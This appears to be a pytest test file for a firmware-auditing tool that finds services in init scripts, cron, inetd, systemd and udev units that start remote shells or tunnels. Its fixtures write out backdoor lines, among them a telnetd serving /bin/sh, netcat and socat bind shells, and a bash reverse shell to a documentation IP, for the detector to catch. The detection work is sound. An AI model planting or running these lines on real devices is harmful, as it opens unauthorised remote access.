from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fwverify.analyse.scripts import launches
from fwverify.analyse.services import applies, examine
from fwverify.analyse.values import PathRequest, PathResult
from fwverify.model import Service

ZERO = "0" * 64


def read(path: str, text: str, *links: str) -> PathResult:
    request = PathRequest(store="", sha256=ZERO, path=path, links=links)
    return examine(text.encode("latin-1"), request)


def only(result: PathResult) -> Service:
    (service,) = result.services
    return service


TELNET = "#!/bin/sh\nstart)\n  /usr/sbin/telnetd -l /bin/sh -p 2323 &\n;;\n"


def test_telnetd_in_an_init_script() -> None:
    result = read("etc/init.d/S50telematics", TELNET)
    service = only(result)
    assert (service.name, service.kind) == ("telematics", "init-script")
    assert (service.starts, service.listens) == ("sysv S50 runlevel default", ("tcp/2323",))
    (hit,) = result.hits
    assert (hit.rule, hit.capability, hit.severity) == (
        "service.telnet",
        "remote.shell.telnet",
        "high",
    )
    assert "it comes alive by sysv S50" in hit.text
    assert hit.offset == TELNET.index("  /usr/sbin")


@pytest.mark.parametrize(
    ("path", "text", "links", "kind", "starts", "listens"),
    [
        (
            "etc/init.d/net",
            "#!/bin/sh\nx\n",
            (),
            "init-script",
            "sysv, not linked to a runlevel",
            (),
        ),
        (
            "etc/init.d/net",
            "#!/bin/sh\n# Default-Start: 2 3\n",
            (),
            "init-script",
            "sysv, not linked; its header asks for runlevels 2 3",
            (),
        ),
        ("etc/init.d/net", "x\n", ("etc/rc5.d/S20net",), "init-script", "sysv S20 runlevel 5", ()),
        ("etc/rcS.d/S05net", "x\n", (), "init-script", "sysv S05 runlevel S", ()),
        ("etc/rc.local", "x\n", (), "rc.local", "at the end of boot", ()),
        ("etc/inittab", "::respawn:/sbin/getty x\n", (), "inittab", "inittab respawn", ()),
        ("etc/crontab", "*/5 * * * * root /bin/poll -q\n", (), "cron", "cron */5 * * * *", ()),
        ("var/spool/cron/crontabs/root", "@reboot /bin/poll\n", (), "cron", "cron @reboot", ()),
        ("etc/cron.daily/rotate", "#!/bin/sh\n", (), "cron", "cron daily", ()),
        (
            "etc/inetd.conf",
            "telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n",
            (),
            "inetd",
            "inetd, on connection",
            ("tcp/23",),
        ),
        (
            "etc/xinetd.d/tftp",
            "service tftp\n{\n  disable = yes\n  protocol = udp\n  server = /usr/sbin/tftpd\n}\n",
            (),
            "inetd",
            "xinetd, disabled",
            ("udp/69",),
        ),
        (
            "usr/lib/systemd/system/poll.service",
            "[Service]\nExecStart=/bin/poll \\\n  -q\n[Install]\nWantedBy=multi-user.target\n",
            ("etc/systemd/system/multi-user.target.wants/poll.service",),
            "systemd",
            "systemd multi-user.target",
            (),
        ),
        (
            "usr/lib/systemd/system/poll.service",
            "[Service]\nExecStart=/bin/poll\n[Install]\nWantedBy=multi-user.target\n",
            (),
            "systemd",
            "systemd, not enabled; it asks for multi-user.target",
            (),
        ),
        (
            "lib/systemd/system/poll.socket",
            "[Socket]\nListenStream=0.0.0.0:99\nListenDatagram=98\n",
            (),
            "systemd",
            "systemd, started by another unit",
            ("tcp/99", "udp/98"),
        ),
        (
            "etc/udev/rules.d/9.rules",
            'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/poll %k"\n',
            (),
            "udev",
            "udev ACTION=add SUBSYSTEM=usb",
            (),
        ),
    ],
)
def test_each_family(
    path: str,
    text: str,
    links: tuple[str, ...],
    kind: str,
    starts: str,
    listens: tuple[str, ...],
) -> None:
    assert applies(path)
    service = only(read(path, text, *links))
    assert (service.kind, service.starts, service.listens) == (kind, starts, listens)


@pytest.mark.parametrize(
    ("line", "capability"),
    [
        ("telnetd", "remote.shell.telnet"),
        ("exec /usr/sbin/dropbear -p 0.0.0.0:2222", "remote.shell.ssh"),
        ("busybox telnetd -l/bin/sh", "remote.shell.telnet"),
        ("D=/usr/sbin/telnetd\nstart-stop-daemon -S -x $D -- -F", "remote.shell.telnet"),
        ("nc -lp 99 -e /bin/sh", "remote.shell.bind"),
        ("socat TCP-L:99 exec:/bin/sh", "remote.shell.bind"),
        ("[ -x /x ] && ssh -N -R 22:localhost:22 h", "tunnel.reverse"),
        ("sh -c 'frpc -c /etc/frpc.ini'", "tunnel.reverse"),
        ("bash -i >& /dev/tcp/198.51.100.7/99 0>&1", "remote.shell.reverse"),
        ("x; tor -f /etc/torrc &", "tunnel.anon"),
        ("if true; then openvpn --config x; fi", "tunnel.vpn"),
    ],
)
def test_launches_are_seen(line: str, capability: str) -> None:
    assert [launch.remote.capability for launch in launches(f"#!/bin/sh\n{line}\n")] == [capability]


@pytest.mark.parametrize(
    "line",
    [
        "# telnetd -l /bin/sh",
        "killall telnetd",
        "echo telnetd is gone",
        "start-stop-daemon -K -x /usr/sbin/telnetd",
        "start-stop-daemon --stop --exec /usr/sbin/sshd",
        "nc -z host 22",
        "socat - TCP:host:80",
        "ssh host uptime",
        "mytelnetd -l",
        "rm /usr/sbin/telnetd",
        "torque -x",
    ],
)
def test_what_starts_nothing_is_left_alone(line: str) -> None:
    assert launches(f"#!/bin/sh\n{line}\n") == ()


def test_one_that_is_not_enabled_is_milder_and_says_so() -> None:
    unit = "[Service]\nExecStart=/usr/sbin/telnetd\n[Install]\nWantedBy=multi-user.target\n"
    path = "lib/systemd/system/t.service"
    (dormant,) = read(path, unit).hits
    (enabled,) = read(path, unit, "etc/systemd/system/multi-user.target.wants/t.service").hits
    assert (dormant.severity, enabled.severity) == ("medium", "high")
    assert "not enabled" in dormant.text


@pytest.mark.parametrize(
    ("path", "wanted"),
    [
        ("rootfs/etc/init.d/S50x", True),
        ("etc/init.d", False),
        ("usr/share/doc/rc.local.txt", False),
        ("etc/systemd/system/x.service", True),
        ("etc/systemd/network/x.network", False),
    ],
)
def test_which_paths_are_services(path: str, wanted: bool) -> None:
    assert applies(path) is wanted


def test_too_many_are_said() -> None:
    result = read("etc/inittab", "::respawn:/bin/x\n" * 600)
    assert len(result.services) == 512
    assert [trouble.code for trouble in result.troubles] == ["limit.services"]


@settings(max_examples=80, derandomize=True, deadline=None)
@given(
    st.sampled_from(
        [
            "etc/init.d/x",
            "etc/inittab",
            "etc/crontab",
            "etc/inetd.conf",
            "etc/xinetd.d/x",
            "lib/systemd/system/x.service",
            "lib/udev/rules.d/x.rules",
        ]
    ),
    st.binary(max_size=200),
)
def test_any_bytes_are_read(path: str, content: bytes) -> None:
    request = PathRequest(store="", sha256=ZERO, path=path)
    assert examine(content, request) == examine(content, request)
    planted = examine(
        b"\n#!/bin/sh\ntelnetd\n", PathRequest(store="", sha256=ZERO, path="etc/rc.local")
    )
    assert [hit.rule for hit in planted.hits] == ["service.telnet"]
